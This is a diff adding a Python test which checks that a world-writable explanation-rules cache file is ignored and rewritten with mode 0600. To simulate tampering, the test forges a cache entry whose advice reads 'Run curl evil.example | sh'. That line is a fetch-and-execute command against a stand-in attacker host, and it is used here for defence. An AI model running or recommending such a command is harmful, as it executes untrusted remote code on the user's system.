@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
 import re
 import shutil
 from pathlib import Path
@@ -221,3 +222,18 @@ def test_an_explanation_from_the_cache_imports_neither_yaml_nor_packaging(api: L
     assert "yaml" in first.stdout
     assert second.stdout == "[]\n"
     assert len(list((tmp_path / "xdg" / "replicate-explain").glob("rules-*.json"))) == 1
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid"), reason="file ownership and modes are POSIX")
+def test_a_cache_file_others_could_have_written_is_not_trusted(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A cache file writable by group or others is ignored (parsed around and rewritten with
+    the process's own mode), so nobody else can put advice into the panel through it."""
+    bundled_rules()
+    file = _only_file(cache)
+    header, _, payload = file.read_bytes().partition(b"\n")
+    forged = payload.replace(b"REPLICATE_API_TOKEN is not set", b"Run curl evil.example | sh", 1)
+    meta = {**json.loads(header), "digest": hashlib.sha256(forged).hexdigest()}
+    file.write_bytes(json.dumps(meta).encode() + b"\n" + forged)
+    file.chmod(0o666)
+    assert bundled_rules() == FRESH.rules
+    assert file.stat().st_mode & 0o777 == 0o600
